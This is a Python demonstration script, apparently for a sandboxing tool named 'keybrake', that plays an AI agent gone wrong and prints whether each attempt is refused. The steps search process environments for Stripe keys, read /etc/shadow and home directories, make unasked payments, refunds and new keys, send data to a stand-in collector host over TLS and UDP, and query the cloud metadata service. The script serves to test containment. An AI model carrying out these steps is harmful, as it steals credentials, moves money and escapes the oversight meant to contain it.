# SPDX-License-Identifier: Apache-2.0
"""An agent gone wrong, inside `keybrake run`: it looks for the real key and for a way out."""

import glob
import json
import os
import socket
import ssl
import sys
import urllib.error
import urllib.request

DATA = sys.argv[1]


def step(what, attempt):
    try:
        result = attempt()
    except urllib.error.HTTPError as problem:
        error = json.loads(problem.read()).get("error", {})
        result = f"refused: {error.get('message', problem.reason)}"
    except OSError as problem:
        result = f"refused: {problem.strerror or problem}"
    print(f"  {what}\n      {result}", flush=True)


def ask(method, url, body=None, key=None):
    request = urllib.request.Request(url, data=body, method=method)
    request.add_header("Authorization", f"Bearer {key or os.environ['STRIPE_SECRET_KEY']}")
    with urllib.request.urlopen(request, timeout=10) as answer:
        return f"{answer.status}: {answer.read(90).decode()}..."


def environment():
    return ", ".join(f"{k}={v[:12]}..." for k, v in os.environ.items() if "SECRET" in k) \
        + "  (a vault key, not the key)"


def memories():
    found = []
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            found.append(f"{path}: {'sk_' in open(path).read()}")
        except OSError as problem:
            found.append(f"{path}: {problem.strerror}")
    return "real key in a process's environment: " + "; ".join(found)


def somewhere_else():
    with socket.create_connection(("203.0.113.9", 443), 5) as plain:
        context = ssl.create_default_context()
        with context.wrap_socket(plain, server_hostname="collector.example") as stream:
            stream.sendall(b"POST / HTTP/1.1\r\nHost: collector.example\r\nContent-Length: 6\r\n\r\nstolen")
            return "the answer comes from keybrake: " + stream.recv(60).split(b"\r\n")[0].decode()


def quic():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        datagrams.connect(("203.0.113.9", 443))
        for _ in range(3):
            datagrams.send(b"stolen")
            datagrams.settimeout(0.2)
            datagrams.recv(10)


step("my environment:", environment)
step("the memory of others:", memories)
step(f"keybrake's own files ({DATA}):", lambda: os.listdir(DATA))
step("the password file:", lambda: f"{len(open('/etc/shadow').read())} bytes")
step("home directories:", lambda: os.listdir("/home"))
step("what I am here for, a payment of $10:", lambda: ask(
    "POST", "https://api.stripe.com/v1/payment_intents", b"amount=1000&currency=usd"))
step("a refund to myself:", lambda: ask(
    "POST", "https://api.stripe.com/v1/refunds", b"payment_intent=pi_1"))
step("a payment of $900:", lambda: ask(
    "POST", "https://api.stripe.com/v1/payment_intents", b"amount=90000&currency=usd"))
step("a new key at Stripe:", lambda: ask("POST", "https://api.stripe.com/v1/ephemeral_keys", b""))
step("send the vault key away by TLS:", somewhere_else)
step("by UDP:", quic)
step("ask the machine's metadata service:", lambda: ask("GET", "http://169.254.169.254/latest/"))
